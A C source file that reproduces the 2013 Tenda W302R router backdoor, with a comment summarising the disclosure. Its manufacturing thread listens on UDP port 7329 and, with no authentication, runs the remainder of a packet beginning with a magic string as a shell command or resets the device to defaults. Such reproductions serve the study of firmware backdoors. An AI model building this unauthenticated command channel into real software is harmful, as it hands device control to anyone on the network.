/*
 * Incident: Tenda W302R / W330R routers (and rebrands such as Medialink MWN-WAPR150N),
 * disclosed by Craig Heffner in October 2013. The vendor's modified GoAhead httpd started a
 * "manufacturing" thread (MfgThread) that listened on UDP port 7329 on the LAN side; a
 * datagram starting with the magic string "w302r_mfg" followed by a command byte was acted
 * on with no authentication, and command 'x' ran the rest of the packet as a root shell
 * command (e.g. starting telnetd). Tenda shipped a fix about two days later.
 * Reference: http://www.devttys0.com/2013/10/from-china-with-love/
 * Reproduction (own code, placeholder host).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MFG_PORT 7329
#define MFG_MAGIC "w302r_mfg"
#define MFG_BUF 256

extern int nvram_commit(void);
extern const char *nvram_get(const char *name);
extern int nvram_set(const char *name, const char *value);

static void mfg_reply(int s, struct sockaddr_in *peer, const char *text)
{
	sendto(s, text, strlen(text), 0, (struct sockaddr *)peer, sizeof(*peer));
}

static void mfg_run(int s, struct sockaddr_in *peer, const char *cmd)
{
	char out[MFG_BUF];
	size_t n;
	FILE *p = popen(cmd, "r");

	if (p == NULL) {
		mfg_reply(s, peer, "ERR\n");
		return;
	}
	n = fread(out, 1, sizeof(out) - 1, p);
	out[n] = '\0';
	pclose(p);
	mfg_reply(s, peer, out);
}

static void *MfgThread(void *arg)
{
	struct sockaddr_in addr, peer;
	socklen_t plen;
	char buf[MFG_BUF + 1];
	ssize_t n;
	size_t mlen = strlen(MFG_MAGIC) + 1; /* magic includes its NUL */
	int s;

	(void)arg;
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0)
		return NULL;
	memset(&addr, 0, sizeof(addr));
	addr.sin_family = AF_INET;
	addr.sin_port = htons(MFG_PORT);
	addr.sin_addr.s_addr = inet_addr(nvram_get("lan_ipaddr"));
	if (bind(s, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
		close(s);
		return NULL;
	}

	for (;;) {
		plen = sizeof(peer);
		n = recvfrom(s, buf, MFG_BUF, 0, (struct sockaddr *)&peer, &plen);
		if (n <= (ssize_t)mlen)
			continue;
		buf[n] = '\0';
		if (memcmp(buf, MFG_MAGIC, mlen) != 0)
			continue;

		switch (buf[mlen]) {
		case 'e': /* echo: factory test fixture checks the box is alive */
			mfg_reply(s, &peer, "w302r_mfg ok\n");
			break;
		case '1': /* restore defaults */
			nvram_set("restore_defaults", "1");
			nvram_commit();
			mfg_reply(s, &peer, "OK\n");
			break;
		case 'x': /* run the rest of the datagram as a shell command */
			mfg_run(s, &peer, buf + mlen + 1);
			break;
		default:
			break;
		}
	}
	return NULL;
}

int websMfgInit(void)
{
	pthread_t tid;

	if (pthread_create(&tid, NULL, MfgThread, NULL) != 0)
		return -1;
	pthread_detach(tid);
	return 0;
}
